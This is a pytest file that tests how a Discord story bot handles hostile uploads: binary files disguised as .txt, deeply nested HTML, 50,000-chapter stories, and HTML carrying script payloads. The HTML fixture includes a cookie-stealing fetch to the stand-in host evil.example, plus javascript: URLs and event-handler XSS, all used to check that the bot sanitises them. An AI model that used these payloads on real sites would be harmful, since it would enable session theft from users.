"""Hostile uploads through /story add that tests/library does not already cover.

Covered there: zip bomb, EPUB path traversal, a PNG named .txt, script-only HTML, empty and garbled
files. Here: other images and media posing as text, HTML that tries to run or hide things, deeply
nested HTML, and a story of 50,000 tiny chapters that must still be shown within Discord's limits.
"""
from __future__ import annotations

import re
import time

import pytest

from bot.runtime import APOLOGY


async def upload(storybot, data: bytes, filename: str, content_type: str | None = "text/plain; charset=utf-8"):
    attachment = storybot.server.register_attachment(data, filename, content_type)
    return await (await storybot.run("story add", {"file": attachment}, user=storybot.admin)).reply(timeout=60)


async def confirm(storybot, preview):
    assert "story:confirm" in preview.custom_ids(), preview.text()
    return await (await storybot.click(preview, "story:confirm", user=storybot.admin)).reply(timeout=60)


async def guild_story_count(storybot) -> int:
    async with storybot.store.db.execute(
        "SELECT count(*) FROM stories WHERE guild_id = ?", (storybot.guild.id,)
    ) as cursor:
        return (await cursor.fetchone())[0]


IMAGES_AS_TEXT = {
    "jpeg": b"\xff\xd8\xff\xe1\x00\x18Exif\x00\x00" + bytes(range(256)) * 16,
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(range(256)) * 16,
    "webp": b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(range(256)) * 16,
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 16,
    "gzip": b"\x1f\x8b\x08\x00" + bytes(range(256)) * 16,
    "elf": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 16,
}


@pytest.mark.parametrize("data", list(IMAGES_AS_TEXT.values()), ids=list(IMAGES_AS_TEXT))
async def test_binary_files_named_txt_are_refused_clearly(storybot, data):
    reply = await upload(storybot, data, "chapter_one.txt")
    assert reply.ephemeral
    assert APOLOGY not in reply.text() and "story:confirm" not in reply.custom_ids(), reply.text()
    assert len(reply.text()) < 300
    assert await guild_story_count(storybot) == 0


async def test_html_that_tries_to_run_code_keeps_only_the_story(storybot):
    page = b"""<html><head><title>Quiet Night</title>
    <script>fetch('https://evil.example/'+document.cookie)</script>
    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <base href="https://evil.example/"></head>
    <body onload="alert('ONLOAD-LEAK')">
    <template><p>TEMPLATE-LEAK said nobody.</p></template>
    <noscript>NOSCRIPT-LEAK</noscript>
    <iframe src="javascript:alert('IFRAME-LEAK')"></iframe>
    <svg><script>alert('SVG-LEAK')</script></svg>
    <h2>Chapter 1</h2>
    <p onclick="alert('CLICK-LEAK')">"Stay inside tonight," Kakashi said to Naruto.</p>
    <p><a href="javascript:alert('HREF-LEAK')">Naruto</a> nodded and went home quietly.</p>
    <p>"Fine," Naruto said. <img src=x onerror="alert('IMG-LEAK')"> Sakura laughed at him.</p>
    </body></html>"""
    preview = await upload(storybot, page, "quiet.html", "text/html")
    done = await confirm(storybot, preview)
    assert "Added" in done.text()
    async with storybot.store.db.execute(
        "SELECT group_concat(text, ' ') FROM paragraphs JOIN stories ON stories.id = paragraphs.story_id"
        " WHERE stories.guild_id = ?",
        (storybot.guild.id,),
    ) as cursor:
        (stored,) = await cursor.fetchone()
    assert "Stay inside tonight" in stored and "nodded and went home" in stored
    for leak in ("LEAK", "alert(", "evil.example", "document.cookie", "javascript:"):
        assert leak not in stored, leak
        assert leak not in preview.text()


async def test_deeply_nested_html_upload_is_answered_in_time(storybot):
    depth = 100_000
    page = (
        b"<html><body>" + b"<div><span>" * depth
        + b'<p>"Deep down," Naruto said, "it is quiet here."</p><p>Sakura agreed with him.</p>'
        + b"</span></div>" * depth + b"</body></html>"
    )
    started = time.perf_counter()
    preview = await upload(storybot, page, "deep.html", "text/html")
    assert time.perf_counter() - started < 30
    assert APOLOGY not in preview.text()
    done = await confirm(storybot, preview)
    assert "Added" in done.text()


def tiny_chapters(count: int) -> bytes:
    # "Chapter 12345" is not a heading (the parser takes at most four digits), so the headings carry
    # no number and each chapter is numbered by its position.
    return b"Tiny Chapters\n\n" + "".join(
        f"Interlude: Step {n}\n\n\"Step {n} of the long walk home, believe it,\" Naruto said.\n\n" for n in range(1, count + 1)
    ).encode()


@pytest.mark.slow
async def test_fifty_thousand_tiny_chapters_are_stored_and_shown_within_limits(storybot):
    count = 50_000
    preview = await upload(storybot, tiny_chapters(count), "tiny.txt")
    assert re.search(rf"Chapters\n{count:,}\n", preview.text()), preview.text()[:500]
    done = await confirm(storybot, preview)
    assert "Added" in done.text()
    choices = await storybot.autocomplete("story info", "story", {"story": "Tiny Chap"})
    story = choices[0]["value"]
    info = await (await storybot.run("story info", {"story": story})).reply(timeout=10)
    assert "Chapter 1" in info.text()

    chapters = await storybot.autocomplete("read", "chapter", {"story": story, "chapter": "4999"})
    assert 1 <= len(chapters) <= 25
    await (await storybot.run("read", {"story": story, "chapter": count})).reply(timeout=10)
    thread = storybot.server.threads(storybot.channel)[-1]
    page = await storybot.server.wait_for_message(lambda m: "-# Page" in m.content, channel=thread)
    assert f"Step {count} of the long walk" in page.content
    quote = await (await storybot.run("quote", {"story": story})).reply(timeout=10)
    assert "Step" in quote.text()
